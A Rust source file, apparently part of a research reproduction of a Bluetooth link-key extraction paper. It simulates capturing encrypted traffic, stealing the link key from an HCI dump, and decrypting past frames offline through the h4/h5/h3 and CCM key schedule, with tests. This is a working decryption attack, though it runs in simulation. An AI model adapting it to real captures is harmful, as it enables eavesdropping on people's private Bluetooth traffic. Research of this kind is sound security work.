@@ -1,0 +1,266 @@
+//! Traffic decryption with an extracted link key — the §IV consequence the
+//! paper states but does not demonstrate: "A would be able to decrypt not
+//! only the future, but also the past communications of M captured by
+//! air-sniffers using the key."
+//!
+//! Pipeline:
+//!
+//! 1. `M` and `C` run an *encrypted* profile session while a passive air
+//!    sniffer records everything (cleartext LMP handshakes + AES-CCM ACL
+//!    ciphertext),
+//! 2. the attacker extracts the `C`–`M` link key via the Fig 5 procedure
+//!    (reused from [`crate::link_key_extraction`]'s machinery — here we
+//!    read it from `C`'s dump directly),
+//! 3. offline, the attacker replays the key schedule: find the sniffed
+//!    `LMP_au_rand`, recompute `h4`/`h5` to get the ACO, derive the session
+//!    encryption key with `h3`, rebuild each frame's CCM nonce from the
+//!    frame order, and decrypt.
+//!
+//! Everything the attacker uses in step 3 is public (sniffed) except the
+//! link key — which is the point.
+
+use blap_crypto::{ccm, ssp};
+use blap_sim::{profiles, DeviceId, SniffedFrame, World};
+use blap_types::{BdAddr, Duration, LinkKey, ServiceUuid};
+
+use crate::addrs;
+use crate::extract;
+
+/// Configuration of an eavesdropping run.
+#[derive(Clone, Debug)]
+pub struct EavesdropScenario {
+    /// World seed.
+    pub seed: u64,
+    /// The secret payloads `C` sends to `M` over the encrypted link.
+    pub secrets: Vec<Vec<u8>>,
+}
+
+impl EavesdropScenario {
+    /// A scenario with two representative secret payloads.
+    pub fn new(seed: u64) -> Self {
+        EavesdropScenario {
+            seed,
+            secrets: vec![
+                b"PBAP: +82-10-1234-5678 (CEO)".to_vec(),
+                b"MAP: 'wire the funds monday'".to_vec(),
+            ],
+        }
+    }
+
+    /// Runs the capture + extraction + decryption pipeline.
+    pub fn run(&self) -> EavesdropReport {
+        let m_addr: BdAddr = addrs::M.parse().expect("valid M address");
+        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");
+
+        let mut world = World::new(self.seed);
+        let m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
+        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
+
+        // Bond, then run an encrypted profile session carrying secrets.
+        world.device_mut(c).host.pair_with(m_addr);
+        world.run_for(Duration::from_secs(5));
+        world.device_mut(c).host.disconnect(m_addr);
+        world.run_for(Duration::from_secs(2));
+        world
+            .device_mut(c)
+            .host
+            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
+        world.run_for(Duration::from_secs(5));
+        for secret in &self.secrets {
+            world.device_mut(c).host.send_data(m_addr, secret.clone());
+            world.run_for(Duration::from_millis(100));
+        }
+        world.run_for(Duration::from_secs(1));
+        let _ = m;
+
+        // The attacker's inputs: the sniffer capture and C's HCI dump.
+        let frames: Vec<SniffedFrame> = world.sniffed_frames().to_vec();
+        let stolen_key = extract::from_snoop_log(world.device(c), m_addr);
+
+        let mut report = EavesdropReport {
+            captured_encrypted_frames: frames
+                .iter()
+                .filter(|f| {
+                    matches!(
+                        f,
+                        SniffedFrame::Acl {
+                            encrypted: true,
+                            ..
+                        }
+                    )
+                })
+                .count(),
+            ciphertext_contains_secrets: ciphertexts_contain(&frames, &self.secrets),
+            stolen_key,
+            decrypted_secrets: Vec::new(),
+        };
+        let Some(key) = stolen_key else {
+            return report;
+        };
+
+        report.decrypted_secrets = decrypt_capture(&frames, key, c_addr, m_addr)
+            .into_iter()
+            .filter(|p| self.secrets.contains(p))
+            .collect();
+        report
+    }
+}
+
+/// True when any encrypted frame carries a secret in the clear (must be
+/// false — otherwise "encryption" did nothing).
+fn ciphertexts_contain(frames: &[SniffedFrame], secrets: &[Vec<u8>]) -> bool {
+    frames.iter().any(|f| match f {
+        SniffedFrame::Acl {
+            data,
+            encrypted: true,
+            ..
+        } => secrets
+            .iter()
+            .any(|s| !s.is_empty() && data.windows(s.len()).any(|w| w == s.as_slice())),
+        _ => false,
+    })
+}
+
+/// The offline decryption step: exactly what an attacker with the capture
+/// and the stolen link key can compute.
+///
+/// `verifier`/`prover` are the authentication roles as sniffed (`C`
+/// initiated the profile connection, so `C` is the verifier); the central
+/// of the link is also `C` here since it paged.
+pub fn decrypt_capture(
+    frames: &[SniffedFrame],
+    stolen_key: LinkKey,
+    verifier: BdAddr,
+    prover: BdAddr,
+) -> Vec<Vec<u8>> {
+    // 1. Recover the ACO from the sniffed challenge.
+    let au_rand = frames.iter().find_map(|f| match f {
+        SniffedFrame::Lmp {
+            au_rand: Some(r), ..
+        } => Some(*r),
+        _ => None,
+    });
+    let Some(au_rand) = au_rand else {
+        return Vec::new();
+    };
+    let zero = [0u8; 16];
+    let (_sres, aco) =
+        ssp::secure_authentication_response(&stolen_key, verifier, prover, &au_rand, &zero);
+
+    // 2. Derive the session encryption key (central first, like the
+    //    controllers do).
+    let mut aco_ext = [0u8; 8];
+    aco_ext.copy_from_slice(&aco);
+    let enc_key = ssp::h3(&stolen_key, verifier, prover, &aco_ext);
+
+    // 3. Decrypt every encrypted frame, reconstructing the nonce from the
+    //    frame's position in the capture. The handle is not sniffable at
+    //    this layer, so brute-force the 1-byte handles the simulation
+    //    allocates — a real attacker reads it from the baseband header.
+    let mut plaintexts = Vec::new();
+    for frame in frames {
+        if let SniffedFrame::Acl {
+            data,
+            encrypted: true,
+            packet_counter,
+            ..
+        } = frame
+        {
+            let nonce = ccm::acl_nonce(*packet_counter, verifier);
+            for handle in 1u16..=8 {
+                if let Ok(plain) = ccm::decrypt(&enc_key, &nonce, &handle.to_le_bytes(), data) {
+                    plaintexts.push(plain);
+                    break;
+                }
+            }
+        }
+    }
+    plaintexts
+}
+
+/// Outcome of an eavesdropping run.
+#[derive(Clone, Debug)]
+pub struct EavesdropReport {
+    /// Encrypted ACL frames the sniffer captured.
+    pub captured_encrypted_frames: usize,
+    /// Whether any secret appeared in the ciphertext (encryption sanity).
+    pub ciphertext_contains_secrets: bool,
+    /// The link key pulled from `C`'s dump.
+    pub stolen_key: Option<LinkKey>,
+    /// Secrets recovered by offline decryption.
+    pub decrypted_secrets: Vec<Vec<u8>>,
+}
+
+impl EavesdropReport {
+    /// The full-attack verdict: ciphertext alone leaked nothing, but the
+    /// stolen key decrypted every secret.
+    pub fn succeeded(&self, expected_secrets: usize) -> bool {
+        self.stolen_key.is_some()
+            && !self.ciphertext_contains_secrets
+            && self.decrypted_secrets.len() == expected_secrets
+    }
+}
+
+/// A convenience holder so `DeviceId` stays used even if scenarios evolve.
+#[doc(hidden)]
+pub type _DeviceIdAlias = DeviceId;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn encrypted_capture_hides_secrets_without_the_key() {
+        let scenario = EavesdropScenario::new(51);
+        let report = scenario.run();
+        assert!(report.captured_encrypted_frames > 0, "{report:?}");
+        assert!(
+            !report.ciphertext_contains_secrets,
+            "link encryption must hide payloads from the sniffer"
+        );
+    }
+
+    #[test]
+    fn stolen_key_decrypts_past_traffic() {
+        let scenario = EavesdropScenario::new(52);
+        let report = scenario.run();
+        assert!(report.stolen_key.is_some());
+        assert!(
+            report.succeeded(scenario.secrets.len()),
+            "all secrets must decrypt: {report:?}"
+        );
+    }
+
+    #[test]
+    fn wrong_key_decrypts_nothing() {
+        let scenario = EavesdropScenario::new(53);
+        let m_addr: BdAddr = addrs::M.parse().expect("valid address");
+        let c_addr: BdAddr = addrs::C.parse().expect("valid address");
+        // Re-run the capture, then attempt decryption with a wrong key.
+        let mut world = World::new(scenario.seed);
+        let _m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
+        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
+        world.device_mut(c).host.pair_with(m_addr);
+        world.run_for(Duration::from_secs(5));
+        world.device_mut(c).host.disconnect(m_addr);
+        world.run_for(Duration::from_secs(2));
+        world
+            .device_mut(c)
+            .host
+            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
+        world.run_for(Duration::from_secs(5));
+        world
+            .device_mut(c)
+            .host
+            .send_data(m_addr, b"top secret".to_vec());
+        world.run_for(Duration::from_secs(1));
+
+        let frames = world.sniffed_frames().to_vec();
+        let wrong: LinkKey = "00000000000000000000000000000000".parse().expect("valid");
+        let plaintexts = decrypt_capture(&frames, wrong, c_addr, m_addr);
+        assert!(
+            plaintexts.is_empty(),
+            "CCM tags must reject a wrong key: {plaintexts:?}"
+        );
+    }
+}
